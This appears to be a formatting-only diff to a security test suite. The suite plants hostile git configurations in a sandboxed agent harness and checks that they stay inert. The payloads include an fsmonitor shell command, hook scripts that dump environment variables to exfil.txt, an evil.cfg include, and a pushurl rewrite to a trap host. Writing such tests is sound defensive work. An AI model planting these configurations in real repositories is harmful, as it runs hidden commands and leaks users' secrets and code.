@@ -128,7 +128,10 @@ ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
     "fsmonitor": ('[core]\n\tfsmonitor = sh -c "touch HOST; env > exfil.txt"', {}),
     "hooks": (
         "[core]\n\thooksPath = hooks",
-        {f"hooks/{hook}": "#!/bin/sh\ntouch HOST\nenv > exfil.txt\n" for hook in ("pre-commit", "post-commit", "pre-push")},
+        {
+            f"hooks/{hook}": "#!/bin/sh\ntouch HOST\nenv > exfil.txt\n"
+            for hook in ("pre-commit", "post-commit", "pre-push")
+        },
     ),
     "include": ("[include]\n\tpath = ../evil.cfg", {"evil.cfg": '[core]\n\tfsmonitor = sh -c "touch HOST"\n'}),
     "pushurl": ('[remote "origin"]\n\tpushurl = TRAP/stolen.git\n[url "TRAP/"]\n\tinsteadOf = FORGE/', {}),
@@ -141,7 +144,7 @@ def plant(attack: str, host_canary: Path, trap: Trap, forge_url: str) -> list[di
     turns = [
         bash(
             f"mkdir -p .git && cat >> .git/config <<'CFG'\n{config}\nCFG\n"
-            f"(cat .git/config >> \"$GIT_DIR/config\") 2>/dev/null && echo PLANTED-IN-PAID-GIT || echo refused",
+            f'(cat .git/config >> "$GIT_DIR/config") 2>/dev/null && echo PLANTED-IN-PAID-GIT || echo refused',
             "Plant the configuration.",
         )
     ]
@@ -168,9 +171,7 @@ def check_run(h: Harness, tmp: Path, host_canary: Path, trap: Trap, canaries: di
 
 
 @pytest.mark.parametrize("attack", sorted(ATTACKS))
-def test_planted_git_configuration_is_inert(
-    attack: str, tmp_path: Path, trap: Trap, canaries: dict[str, str]
-) -> None:
+def test_planted_git_configuration_is_inert(attack: str, tmp_path: Path, trap: Trap, canaries: dict[str, str]) -> None:
     host_canary = tmp_path / f"ran-{attack}"
     with harness(tmp_path, {"conversations": []}, quality=False) as h:
         h.model.script.conversations = [
@@ -261,7 +262,7 @@ def test_the_working_files_hold_no_git_of_paids(tmp_path: Path) -> None:
                 "match": ".*",
                 "turns": [
                     bash("echo change >> README.md && git diff --stat && git status --short", "Look at git."),
-                    bash("ls -a; touch \"$GIT_DIR/planted\" 2>&1; git commit -qam x 2>&1 | tail -1"),
+                    bash('ls -a; touch "$GIT_DIR/planted" 2>&1; git commit -qam x 2>&1 | tail -1'),
                     SUBMIT,
                 ],
             }
